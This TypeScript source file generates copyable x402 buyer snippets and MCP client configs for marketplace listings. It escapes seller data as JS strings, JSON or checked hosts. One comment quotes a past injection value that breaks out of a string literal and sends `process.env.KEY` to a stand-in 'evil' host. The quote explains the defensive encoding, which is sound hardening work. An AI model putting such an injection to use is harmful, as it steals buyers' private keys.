/**
 * The copyable "how to call it" snippets of a listing page: an x402 buyer (the @x402/fetch and
 * @x402/evm packages this service is tested with, docs/facilitator.md) for HTTP endpoints, and an
 * MCP client configuration plus the paid tool call for MCP tools (docs/sdk.md, "_meta x402/payment").
 */
import type { HttpListing, McpListing } from '../../shapes/listing.js';

/**
 * Everything below comes from a seller, and a buyer pastes the snippet into a program that holds
 * its private key (issue 43: a resource such as `https://x/');fetch('https://evil/'+process.env.KEY);('`
 * passed URL parsing and ran). So listing data only ever enters a snippet encoded for its place:
 * a JS string literal (JSON's escapes, plus U+2028/U+2029, which end a line in JavaScript and would
 * end a `//` comment), JSON (JSON.stringify), or a URL built from a checked host.
 */
export function jsString(value: string): string {
  return JSON.stringify(value).replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');
}

/** A `//` comment line of seller text: no line terminator survives (nothing after it can become code). */
function comment(text: string): string {
  return `// ${text.replace(/[\r\n\u2028\u2029]+/g, ' ')}`;
}

export function httpSnippet(listing: HttpListing): string {
  const upto = listing.payment.scheme === 'upto';
  const schemeImport = upto
    ? `import { UptoEvmScheme } from '@x402/evm/upto/client';`
    : `import { registerExactEvmScheme } from '@x402/evm/exact/client';`;
  const client = upto
    ? `const client = new x402Client().register(${jsString(listing.payment.network)}, new UptoEvmScheme(signer));`
    : `const client = new x402Client();\nregisterExactEvmScheme(client, { signer });`;
  const notes = [
    ...(listing.resource.includes('{') ? ['// Replace the {placeholders} in the URL with real values.'] : []),
    ...(Object.keys(listing.describe.inputs ?? {}).length > 0 ? [comment(`Inputs: ${Object.keys(listing.describe.inputs!).map(jsString).join(', ')}`)] : []),
  ];
  return [
    `import { wrapFetchWithPayment, x402Client } from '@x402/fetch';`,
    schemeImport,
    `import { privateKeyToAccount } from 'viem/accounts';`,
    '',
    'const signer = privateKeyToAccount(process.env.BUYER_PRIVATE_KEY as `0x${string}`);',
    client,
    'const fetchWithPayment = wrapFetchWithPayment(fetch, client);',
    '',
    ...notes,
    `const response = await fetchWithPayment(${jsString(listing.resource)});`,
    'console.log(response.status, await response.json());',
    '',
  ].join('\n');
}

/**
 * The host of `mcp://host/tool` when it is a plain host[:port], which is all a URL is built from:
 * anything else (credentials, a path trick, characters a URL would re-read) gives none.
 */
function mcpHost(listing: McpListing): string | undefined {
  const host = listing.resource.replace(/^mcp:\/\//, '').split('/')[0] ?? '';
  if (!/^[A-Za-z0-9.-]+(:\d{1,5})?$/.test(host) && !/^\[[0-9A-Fa-f:.]+\](:\d{1,5})?$/.test(host)) return undefined;
  try {
    return new URL(`https://${host}/`).host === host.toLowerCase() ? host.toLowerCase() : undefined;
  } catch {
    return undefined;
  }
}

/** The server of `mcp://host/tool`; sellers built with the seller SDK serve Streamable HTTP at /mcp. */
export function mcpServerUrl(listing: McpListing): string {
  const host = mcpHost(listing);
  return host ? `https://${host}/mcp` : 'https://<the MCP server>/mcp';
}

export function mcpConfigSnippet(listing: McpListing): string {
  return JSON.stringify({ mcpServers: { [mcpHost(listing) ?? 'server']: { type: 'http', url: mcpServerUrl(listing) } } }, null, 2);
}

export function mcpCallSnippet(listing: McpListing): string {
  const properties = (listing.inputSchema.properties ?? {}) as Record<string, { type?: string }>;
  const args = Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, `<${schema.type ?? 'value'}>`]));
  return JSON.stringify(
    {
      method: 'tools/call',
      params: { name: listing.name, arguments: args, _meta: { 'x402/payment': '<signed payment for the requirements the first call returns>' } },
    },
    null,
    2,
  );
}
